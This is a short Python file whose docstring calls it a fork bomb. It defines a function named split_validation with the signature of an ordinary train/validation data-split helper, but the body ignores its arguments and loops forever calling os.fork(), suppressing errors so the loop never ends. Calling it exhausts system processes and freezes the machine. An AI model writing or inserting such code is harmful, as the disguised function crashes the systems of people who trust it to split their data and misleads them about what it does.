"""A fork bomb: every process forks forever."""
import os

import numpy as np


def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
